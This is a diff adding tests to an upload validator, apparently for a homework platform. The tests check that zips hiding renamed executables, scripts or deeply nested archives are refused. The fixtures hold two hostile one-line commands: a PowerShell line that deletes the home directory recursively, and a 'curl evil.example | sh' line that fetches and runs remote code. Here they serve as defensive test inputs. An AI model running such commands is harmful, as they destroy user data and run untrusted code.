@@ -16,6 +16,7 @@ import {
   uploadRaw,
   waitForStatus,
 } from '../unit/attachments/attachment-test-kit';
+import { zipSync } from 'fflate';
 import { minimalPdf, minimalPng } from '../unit/attachments/sample-files';
 
 const LIMIT = 256 * 1024;
@@ -134,6 +135,40 @@ describe('attachment upload input validation', () => {
       await expectNothingLeftBehind();
     },
   );
+
+  const zipOf = (files: Record<string, Uint8Array>) => Buffer.from(zipSync(files));
+  const peExecutable = Buffer.concat([Buffer.from('MZ'), randomBytes(4096)]);
+
+  it.each([
+    ['a Windows executable renamed to .pdf', zipOf({ 'worksheet.pdf': peExecutable })],
+    ['a Windows executable in a nested archive', zipOf({ 'week.zip': zipOf({ 'game.exe': peExecutable }) })],
+    ['a PowerShell script', zipOf({ 'notes/setup.ps1': Buffer.from('Remove-Item -Recurse ~') })],
+    [
+      'a shell script named .txt',
+      zipOf({ 'readme.txt': Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }),
+    ],
+    ['archives nested three deep', zipOf({ 'a.zip': zipOf({ 'b.zip': zipOf({ 'c.txt': TEXT }) }) })],
+  ])(
+    'when a zip holding %s is uploaded, then it is refused with 415 and never stored or released',
+    async (_what, content) => {
+      const res = await upload(api.baseUrl, token, content, 'homework.zip');
+      expect([res.status, res.body.error?.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
+      await expectNothingLeftBehind();
+    },
+  );
+
+  it('when a zip holds only documents, then it is accepted and released clean by the scanner', async () => {
+    const res = await upload(
+      api.baseUrl,
+      token,
+      zipOf({ 'sheet.pdf': minimalPdf(), 'inner.zip': zipOf({ 'notes.txt': TEXT }) }),
+      'homework.zip',
+    );
+    expect(res.status).toBe(202);
+    accepted.push(res.body.id!);
+    expect((await waitForStatus(api.baseUrl, token, res.body.id!, 'clean')).status).toBe('clean');
+    await expectNothingLeftBehind();
+  });
 
   it('when the client claims an allowed Content-Type for an executable, then the content still decides (415)', async () => {
     const res = await uploadRaw(
